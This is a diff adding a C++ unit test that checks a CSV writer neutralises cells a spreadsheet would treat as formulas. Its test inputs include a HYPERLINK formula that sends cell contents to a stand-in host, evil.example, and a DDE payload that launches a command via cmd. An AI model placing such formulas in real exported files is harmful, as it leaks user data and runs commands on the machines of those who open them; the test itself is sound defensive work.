@@ -71,3 +71,30 @@ TEST_CASE("CSV written by append_csv_row reads back the same", "[csv]") {
   CHECK(problems.empty());
   CHECK(cells_of(table) == rows);
 }
+
+TEST_CASE("CSV cells a spreadsheet would run as formulas are neutralised", "[csv][files]") {
+  // OWASP's list: = + - @, tab and CR at the start of a cell.
+  CHECK(neutralise_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")") ==
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")");
+  CHECK(neutralise_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
+  CHECK(neutralise_cell("-2+3") == "'-2+3");
+  CHECK(neutralise_cell("@SUM(1+1)") == "'@SUM(1+1)");
+  CHECK(neutralise_cell("\t=1") == "'\t=1");
+  CHECK(neutralise_cell("\r=1") == "'\r=1");
+  // Numbers stay numbers; ordinary text is untouched.
+  CHECK(neutralise_cell("-1.5") == "-1.5");
+  CHECK(neutralise_cell("+3") == "+3");
+  CHECK(neutralise_cell("87.41") == "87.41");
+  CHECK(neutralise_cell("党旗代代传") == "党旗代代传");
+  CHECK(neutralise_cell("a=b") == "a=b");
+  CHECK(neutralise_cell("") == "");
+  CHECK(neutralise_cell("-") == "'-");
+
+  std::string text;
+  append_csv_row(text, {"=HYPERLINK(\"http://x\",\"y\")", "-1.5", "ok"});
+  Problems problems;
+  Table table = parse_csv("x.csv", text, problems);
+  REQUIRE(problems.empty());
+  CHECK(cells_of(table) ==
+        std::vector<std::vector<std::string>>{{"'=HYPERLINK(\"http://x\",\"y\")", "-1.5", "ok"}});
+}
